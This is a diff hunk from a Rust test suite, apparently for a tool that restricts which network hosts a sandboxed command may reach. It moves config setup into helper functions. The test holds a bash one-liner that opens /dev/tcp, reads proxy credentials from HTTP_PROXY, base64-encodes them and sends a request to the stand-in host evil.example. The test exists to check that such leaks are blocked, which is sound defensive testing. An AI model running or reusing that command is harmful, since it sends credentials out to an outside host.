@@ -326,10 +326,8 @@ fn the_command_line_asks_for_the_hosts_that_no_setting_names() {
     assert_eq!(run(&[&approve[..], &["--", "true"]].concat()).0, Some(0));
     let more = ["run", "--network", "crates.io", "--approve", approval.trim(), "--", "true"];
     assert_ne!(run(&more).0, Some(0), "another list of hosts is another thing to approve");
-    let config = place.work().parent().expect("a parent").join("home/.config/tagout");
-    fs::create_dir_all(&config).expect("a folder");
-    fs::write(config.join("config.toml"), "[run]\nallow_hosts = [\"no-such-host.invalid\"]\n").expect("a file");
-    crate::policy::accept(&place);
+    crate::place::configure(&place, "[run]\nallow_hosts = [\"no-such-host.invalid\"]\n");
+    crate::place::accept(&place);
     let ask = "exec 3<>/dev/tcp/127.0.0.1/31280; printf 'GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\
         Proxy-Authorization: Basic %s\\r\\n\\r\\n' $(printf ${HTTP_PROXY#http://} | sed 's/@.*//' | base64 -w0) >&3; cat <&3";
     let (code, notes) = run(&["run", "--network", "no-such-host.invalid", "--", "bash", "-c", ask]);
